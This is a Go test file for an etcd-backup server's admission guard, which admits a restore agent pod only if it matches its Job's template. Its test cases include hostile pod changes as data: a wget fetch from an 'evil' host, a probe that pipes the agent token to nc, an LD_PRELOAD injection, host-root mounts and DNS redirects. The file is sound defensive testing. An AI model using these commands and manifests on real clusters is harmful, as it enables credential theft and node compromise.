package auth_test

import (
	"context"
	"strconv"
	"strings"
	"testing"

	"google.golang.org/grpc/codes"
	batchv1 "k8s.io/api/batch/v1"
	corev1 "k8s.io/api/core/v1"
	"k8s.io/apimachinery/pkg/api/resource"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/utils/ptr"

	"github.com/kubectl-etcdbackup/kubectl-etcdbackup/server/auth"
)

// TestAgentGuardAdmitsOnlyPodsOfTheJobsTemplate: under a real, signed,
// running restore Job, a pod made by hand with the agents' ServiceAccount
// and an ownerReference to the Job is admitted only if it runs what the
// template says (issue 25 item 1); what the API server and admission add
// to the Job controller's pods does not matter.
func TestAgentGuardAdmitsOnlyPodsOfTheJobsTemplate(t *testing.T) {
	c := newCluster(t)
	rj := c.restoreJob(t)
	n := 0
	// podOf creates a pod from rj's template as the Job controller and
	// admission would, changed by change, and returns its token.
	podOf := func(change func(p *corev1.Pod)) string {
		n++
		p := &corev1.Pod{ObjectMeta: *rj.Spec.Template.ObjectMeta.DeepCopy(), Spec: *rj.Spec.Template.Spec.DeepCopy()}
		p.Name, p.Namespace = "restore-pod-"+strconv.Itoa(n), rj.Namespace
		p.UID = types.UID("uid-of-" + p.Name)
		p.OwnerReferences = []metav1.OwnerReference{*metav1.NewControllerRef(rj, rj.GroupVersionKind())}
		p.OwnerReferences[0].APIVersion, p.OwnerReferences[0].Kind = "batch/v1", "Job"
		if p.Labels == nil {
			p.Labels = map[string]string{}
		}
		p.Labels["batch.kubernetes.io/controller-uid"] = string(rj.UID)
		p.Labels["controller-uid"] = string(rj.UID)
		p.Labels["batch.kubernetes.io/job-name"] = rj.Name
		// What the API server and admission add.
		s := &p.Spec
		s.NodeName, s.SchedulerName, s.DNSPolicy = "node-1", "default-scheduler", corev1.DNSClusterFirst
		s.EnableServiceLinks, s.PreemptionPolicy, s.Priority = ptr.To(true), ptr.To(corev1.PreemptLowerPriority), ptr.To[int32](0)
		s.SecurityContext = &corev1.PodSecurityContext{}
		s.Tolerations = append(s.Tolerations, corev1.Toleration{Key: "node.kubernetes.io/not-ready", Operator: corev1.TolerationOpExists, Effect: corev1.TaintEffectNoExecute, TolerationSeconds: ptr.To[int64](300)})
		// No kube-api-access-* volume: the template turns the API token
		// off (automountServiceAccountToken: false), so ServiceAccount
		// admission adds none.
		for i := range s.Containers {
			ct := &s.Containers[i]
			ct.TerminationMessagePath, ct.TerminationMessagePolicy = "/dev/termination-log", corev1.TerminationMessageReadFile
			ct.ImagePullPolicy = corev1.PullIfNotPresent
			ct.Resources.Requests = corev1.ResourceList{corev1.ResourceCPU: resource.MustParse("100m")}
		}
		if change != nil {
			change(p)
		}
		p, err := c.cs.CoreV1().Pods(p.Namespace).Create(context.Background(), p, metav1.CreateOptions{})
		if err != nil {
			t.Fatal(err)
		}
		return c.tokenFor(p)
	}
	if _, err := c.guard.Admit(withToken(podOf(nil)), auth.MethodDownloadBackup); err != nil {
		t.Fatalf("the Job controller's pod, with what admission adds: %v", err)
	}
	// The delta e2e's second agent: a copy outside the Job's selector,
	// another name, the component's labels only.
	copied := podOf(func(p *corev1.Pod) {
		p.Labels = map[string]string{"app.kubernetes.io/component": "restore-agent", "app.kubernetes.io/managed-by": "etcdbackup-server"}
		p.Spec.NodeName = ""
	})
	if _, err := c.guard.Admit(withToken(copied), auth.MethodDownloadBackup); err != nil {
		t.Fatalf("an exact copy of the template outside the selector: %v", err)
	}

	// The kubelet reports the image in the runtime's full form.
	full := podOf(func(p *corev1.Pod) {
		img := p.Spec.Containers[0].Image
		if !strings.Contains(img, "/") {
			img = "docker.io/library/" + img
		}
		if !strings.Contains(img[strings.LastIndex(img, "/"):], ":") {
			img += ":latest"
		}
		p.Status.ContainerStatuses = []corev1.ContainerStatus{{Name: p.Spec.Containers[0].Name, Image: img, State: corev1.ContainerState{Running: &corev1.ContainerStateRunning{}}}}
	})
	if _, err := c.guard.Admit(withToken(full), auth.MethodDownloadBackup); err != nil {
		t.Fatalf("a pod whose status names its image in full: %v", err)
	}

	agent := func(p *corev1.Pod) *corev1.Container { return &p.Spec.Containers[0] }
	for _, tc := range []struct {
		name, want string
		change     func(p *corev1.Pod)
	}{
		{"command", `command differs`, func(p *corev1.Pod) {
			agent(p).Command = []string{"sh", "-c", "wget -O- http://evil/ < /dev/null"}
		}},
		{"args", `args differs`, func(p *corev1.Pod) { agent(p).Args = append(agent(p).Args, "--verbose") }},
		{"image", `image differs`, func(p *corev1.Pod) { agent(p).Image = "evil:latest" }},
		{"env", `env differs`, func(p *corev1.Pod) {
			agent(p).Env = append(agent(p).Env, corev1.EnvVar{Name: "LD_PRELOAD", Value: "/tmp/x.so"})
		}},
		{"extra container", `it has 2 containers, the template 1`, func(p *corev1.Pod) {
			p.Spec.Containers = append(p.Spec.Containers, corev1.Container{Name: "sidecar", Image: "busybox", Command: []string{"sh"}})
		}},
		{"init container", `it has 1 init containers, the template 0`, func(p *corev1.Pod) {
			p.Spec.InitContainers = append(p.Spec.InitContainers, corev1.Container{Name: "first", Image: "busybox"})
		}},
		{"hostPath volume", `volume "host" is not in the template`, func(p *corev1.Pod) {
			p.Spec.Volumes = append(p.Spec.Volumes, corev1.Volume{Name: "host", VolumeSource: corev1.VolumeSource{HostPath: &corev1.HostPathVolumeSource{Path: "/"}}})
		}},
		{"hostPath volume mounted", `container "agent" volumeMounts differs`, func(p *corev1.Pod) {
			p.Spec.Volumes = append(p.Spec.Volumes, corev1.Volume{Name: "host", VolumeSource: corev1.VolumeSource{HostPath: &corev1.HostPathVolumeSource{Path: "/"}}})
			agent(p).VolumeMounts = append(agent(p).VolumeMounts, corev1.VolumeMount{Name: "host", MountPath: "/host"})
		}},
		{"volume source", `source differs`, func(p *corev1.Pod) {
			for i := range p.Spec.Volumes {
				if p.Spec.Volumes[i].PersistentVolumeClaim != nil {
					p.Spec.Volumes[i].VolumeSource = corev1.VolumeSource{HostPath: &corev1.HostPathVolumeSource{Path: "/var/lib/etcd"}}
					return
				}
			}
			p.Spec.Volumes[0].VolumeSource = corev1.VolumeSource{HostPath: &corev1.HostPathVolumeSource{Path: "/"}}
		}},
		{"ephemeral container", `ephemeral containers (debug)`, func(p *corev1.Pod) {
			p.Spec.EphemeralContainers = []corev1.EphemeralContainer{{EphemeralContainerCommon: corev1.EphemeralContainerCommon{Name: "debug", Image: "busybox"}}}
		}},
		{"privileged", `securityContext differs`, func(p *corev1.Pod) {
			agent(p).SecurityContext = &corev1.SecurityContext{Privileged: ptr.To(true)}
		}},
		{"hostNetwork", `hostNetwork differs`, func(p *corev1.Pod) { p.Spec.HostNetwork = true }},
		// Issue 37's smaller doors: what else runs in the container, or
		// where its connections go.
		{"API token turned on", `it mounts the ServiceAccount's API token`, func(p *corev1.Pod) {
			p.Spec.AutomountServiceAccountToken = ptr.To(true)
			p.Spec.Volumes = append(p.Spec.Volumes, apiAccess("kube-api-access-x7k2p"))
		}},
		{"API token left to the ServiceAccount", `it mounts the ServiceAccount's API token`, func(p *corev1.Pod) {
			p.Spec.AutomountServiceAccountToken = nil
		}},
		{"Secret projected as kube-api-access", `volume "kube-api-access-evil" is not in the template`, func(p *corev1.Pod) {
			p.Spec.Volumes = append(p.Spec.Volumes, corev1.Volume{Name: "kube-api-access-evil", VolumeSource: corev1.VolumeSource{Projected: &corev1.ProjectedVolumeSource{
				Sources: []corev1.VolumeProjection{{Secret: &corev1.SecretProjection{LocalObjectReference: corev1.LocalObjectReference{Name: "etcdbackup-job-signing"}}}}}}})
		}},
		{"Secret projected as kube-api-access and mounted", `container "agent" volumeMounts differs`, func(p *corev1.Pod) {
			p.Spec.Volumes = append(p.Spec.Volumes, apiAccess("kube-api-access-evil"))
			agent(p).VolumeMounts = append(agent(p).VolumeMounts, corev1.VolumeMount{Name: "kube-api-access-evil", MountPath: "/var/run/secrets/kubernetes.io/serviceaccount"})
		}},
		{"exec liveness probe", `probes or lifecycle hooks differs`, func(p *corev1.Pod) {
			agent(p).LivenessProbe = &corev1.Probe{ProbeHandler: corev1.ProbeHandler{Exec: &corev1.ExecAction{Command: []string{"sh", "-c", "cat /var/run/secrets/etcdbackup.io/agent/token | nc evil 80"}}}}
		}},
		{"postStart hook", `probes or lifecycle hooks differs`, func(p *corev1.Pod) {
			agent(p).Lifecycle = &corev1.Lifecycle{PostStart: &corev1.LifecycleHandler{Exec: &corev1.ExecAction{Command: []string{"/bin/sh", "-c", "id"}}}}
		}},
		{"hostAliases", `hostAliases differ`, func(p *corev1.Pod) {
			p.Spec.HostAliases = []corev1.HostAlias{{IP: "10.0.0.66", Hostnames: []string{"etcdbackup.etcdbackup-system.svc"}}}
		}},
		{"dnsPolicy", `dnsPolicy None differs from ClusterFirst`, func(p *corev1.Pod) {
			p.Spec.DNSPolicy = corev1.DNSNone
			p.Spec.DNSConfig = &corev1.PodDNSConfig{Nameservers: []string{"10.0.0.66"}}
		}},
		{"dnsConfig", `dnsConfig differs`, func(p *corev1.Pod) {
			p.Spec.DNSConfig = &corev1.PodDNSConfig{Searches: []string{"evil.example"}}
		}},
		{"another Job's controller-uid", `label batch.kubernetes.io/controller-uid=uid-of-another-job is not the Job's uid`, func(p *corev1.Pod) {
			p.Labels["batch.kubernetes.io/controller-uid"] = "uid-of-another-job"
		}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			refused(t, c.guard, podOf(tc.change), auth.MethodDownloadBackup, codes.PermissionDenied,
				"is not the pod Job "+rj.Namespace+"/"+rj.Name+" would run: ")
			refused(t, c.guard, podOf(tc.change), auth.MethodDownloadBackup, codes.PermissionDenied, tc.want)
		})
	}
}

// apiAccess is ServiceAccount admission's volume.
func apiAccess(name string) corev1.Volume {
	return corev1.Volume{Name: name, VolumeSource: corev1.VolumeSource{Projected: &corev1.ProjectedVolumeSource{
		Sources: []corev1.VolumeProjection{{ServiceAccountToken: &corev1.ServiceAccountTokenProjection{Path: "token", ExpirationSeconds: ptr.To[int64](3607)}}}}}}
}

// A restore Job edited after the server created it to run more than one
// pod (parallelism, completions) or suspended: its pods are refused, so
// two agents never restore one member at once (issue 37).
func TestAgentGuardRefusesJobsEditedToRunMore(t *testing.T) {
	for _, tc := range []struct {
		name, want string
		change     func(j *batchv1.Job)
	}{
		{"parallelism", "its parallelism was set to 2", func(j *batchv1.Job) { j.Spec.Parallelism = ptr.To[int32](2) }},
		{"completions", "its completions were set to 3", func(j *batchv1.Job) { j.Spec.Completions = ptr.To[int32](3) }},
		{"suspended", "it is suspended", func(j *batchv1.Job) { j.Spec.Suspend = ptr.To(true) }},
	} {
		t.Run(tc.name, func(t *testing.T) {
			c := newCluster(t)
			rj := c.restoreJob(t)
			tok := c.tokenFor(c.pod(t, rj, "restore-pod", true))
			if _, err := c.guard.Admit(withToken(tok), auth.MethodDownloadBackup); err != nil {
				t.Fatal(err)
			}
			j, err := c.cs.BatchV1().Jobs(rj.Namespace).Get(context.Background(), rj.Name, metav1.GetOptions{})
			if err != nil {
				t.Fatal(err)
			}
			tc.change(j)
			if _, err := c.cs.BatchV1().Jobs(j.Namespace).Update(context.Background(), j, metav1.UpdateOptions{}); err != nil {
				t.Fatal(err)
			}
			refused(t, c.guard, tok, auth.MethodDownloadBackup, codes.PermissionDenied, tc.want)
			refused(t, c.guard, tok, auth.MethodDownloadBackup, codes.PermissionDenied, "is no longer as the server created it")
		})
	}
}
